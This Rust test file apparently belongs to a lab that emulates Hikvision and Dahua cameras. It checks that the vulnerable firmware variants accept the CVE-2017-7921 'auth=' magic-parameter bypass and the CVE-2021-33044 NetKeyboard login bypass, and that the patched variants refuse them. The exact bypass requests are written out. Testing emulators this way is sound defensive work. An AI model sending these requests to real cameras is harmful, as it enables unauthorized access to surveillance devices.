//! The famous-flaw variants of the lab (`cve_2017_7921`, `cve_2021_33044`) against their patched
//! twins, spoken to over real HTTP; and the request log that records what a client sent.

mod common;

use camguard_protocols::wire;
use common::{device, exchange, service_addr, start};
use serde_json::{json, Value};
use std::net::Ipv4Addr;

const LAB: &str = r#"
seed = 7
[[device]]
id = "hik-vuln"
personality = "hikvision"
firmware = "V5.4.5 build 170124"
cve_2017_7921 = true
[[device]]
id = "hik-patched"
personality = "hikvision"
firmware = "V5.5.800 build 210628"
[[device]]
id = "dahua-vuln"
personality = "dahua"
firmware = "2.622.0000000.31.R, Build Date 2019-04-12"
cve_2021_33044 = true
[[device]]
id = "dahua-patched"
personality = "dahua"
firmware = "2.800.0000016.0.R, Build Date 2022-08-26"
"#;

fn get(path: &str) -> Vec<u8> {
    wire::encode_request(
        "GET",
        path,
        "HTTP/1.1",
        &[("Host", "cam"), ("Connection", "close")],
        b"",
    )
}

fn post(path: &str, body: &Value) -> Vec<u8> {
    let body = body.to_string();
    let len = body.len().to_string();
    let mut req = wire::encode_request(
        "POST",
        path,
        "HTTP/1.1",
        &[
            ("Host", "cam"),
            ("Connection", "close"),
            ("Content-Length", &len),
        ],
        b"",
    );
    req.extend_from_slice(body.as_bytes());
    req
}

fn status(m: &wire::Message) -> u16 {
    m.status().expect("status line").code
}

#[tokio::test]
async fn hikvision_auth_param_bypass_only_on_the_vulnerable_variant() {
    let lab = start(LAB, Ipv4Addr::new(127, 64, 201, 1)).await;
    for (id, vulnerable) in [("hik-vuln", true), ("hik-patched", false)] {
        let d = device(&lab, id);
        let web = service_addr(d, "http");
        let plain = exchange(web, &get("/System/deviceInfo")).await;
        assert_eq!(status(&plain), 401, "{id}: no credentials, no bypass");
        let magic = exchange(web, &get("/System/deviceInfo?auth=YWRtaW46MTEK")).await;
        if vulnerable {
            assert_eq!(status(&magic), 200, "{id}");
            let body = String::from_utf8_lossy(&magic.body);
            assert!(
                body.contains("<DeviceInfo") && body.contains(&d.model),
                "{body}"
            );
        } else {
            assert_eq!(
                status(&magic),
                401,
                "{id}: the patched variant ignores auth="
            );
        }
        // A wrong magic value is no bypass either.
        let other = exchange(web, &get("/ISAPI/System/deviceInfo?auth=YWRtaW46MTIK")).await;
        assert_eq!(status(&other), 401, "{id}");
        // CVE-2021-36260's endpoint exists on both and allows only PUT.
        let sdk = exchange(web, &get("/SDK/webLanguage")).await;
        assert_eq!(status(&sdk), 405, "{id}");
        assert_eq!(sdk.header("Allow"), Some("PUT"));
    }
    let log = lab.requests("hik-vuln");
    assert_eq!(
        log,
        [
            "GET /System/deviceInfo",
            "GET /System/deviceInfo?auth=YWRtaW46MTEK",
            "GET /ISAPI/System/deviceInfo?auth=YWRtaW46MTIK",
            "GET /SDK/webLanguage"
        ]
    );
    lab.shutdown().await;
}

async fn rpc(addr: std::net::SocketAddr, path: &str, body: Value) -> Value {
    let m = exchange(addr, &post(path, &body)).await;
    assert_eq!(status(&m), 200);
    serde_json::from_slice(&m.body).expect("json")
}

#[tokio::test]
async fn dahua_netkeyboard_login_is_granted_only_on_the_vulnerable_variant() {
    let lab = start(LAB, Ipv4Addr::new(127, 64, 202, 1)).await;
    for (id, vulnerable) in [("dahua-vuln", true), ("dahua-patched", false)] {
        let d = device(&lab, id);
        let web = service_addr(d, "http");
        let first = rpc(
            web,
            "/RPC2_Login",
            json!({"method": "global.login", "id": 1, "params": {"userName": "admin",
                "password": "", "clientType": "Web3.0", "loginType": "Direct"}}),
        )
        .await;
        assert_eq!(first["result"], false);
        assert_eq!(first["error"]["code"], 268632079);
        assert_eq!(first["params"]["realm"], format!("Login to {}", d.serial));
        let session = first["session"].clone();
        assert!(session.as_u64().is_some_and(|s| s != 0));
        let second = rpc(
            web,
            "/RPC2_Login",
            json!({"method": "global.login", "id": 2, "session": session, "params": {
                "userName": "admin", "password": "Not Used", "clientType": "NetKeyboard",
                "loginType": "Direct", "authorityType": "Default", "passwordType": "Default"}}),
        )
        .await;
        assert_eq!(second["result"], vulnerable, "{id}: {second}");
        let logout = rpc(
            web,
            "/RPC2",
            json!({"method": "global.logout", "id": 3, "session": session, "params": null}),
        )
        .await;
        assert_eq!(logout["result"], true, "{id}");
        if !vulnerable {
            // The right password, hashed as Dahua clients do, still logs in.
            let random = first["params"]["random"].as_str().expect("random");
            let realm = first["params"]["realm"].as_str().expect("realm");
            let hash = camguard_lab::vendor_ports::dhip_login_hash(
                &d.username,
                &d.password,
                realm,
                random,
            );
            let ok = rpc(
                web,
                "/RPC2_Login",
                json!({"method": "global.login", "id": 4, "session": session, "params": {
                    "userName": d.username, "password": hash, "clientType": "Web3.0",
                    "loginType": "Direct", "authorityType": "Default"}}),
            )
            .await;
            assert_eq!(ok["result"], true, "{ok}");
        }
    }
    assert_eq!(
        lab.requests("dahua-vuln"),
        ["POST /RPC2_Login", "POST /RPC2_Login", "POST /RPC2"]
    );
    lab.shutdown().await;
}

#[test]
fn a_flaw_switch_on_the_wrong_family_is_refused() {
    let err = camguard_lab::LabConfig::from_toml_str(
        "[[device]]\npersonality = \"dahua\"\ncve_2017_7921 = true\n",
    )
    .expect_err("refused");
    assert!(err.to_string().contains("cve_2017_7921"), "{err}");
}
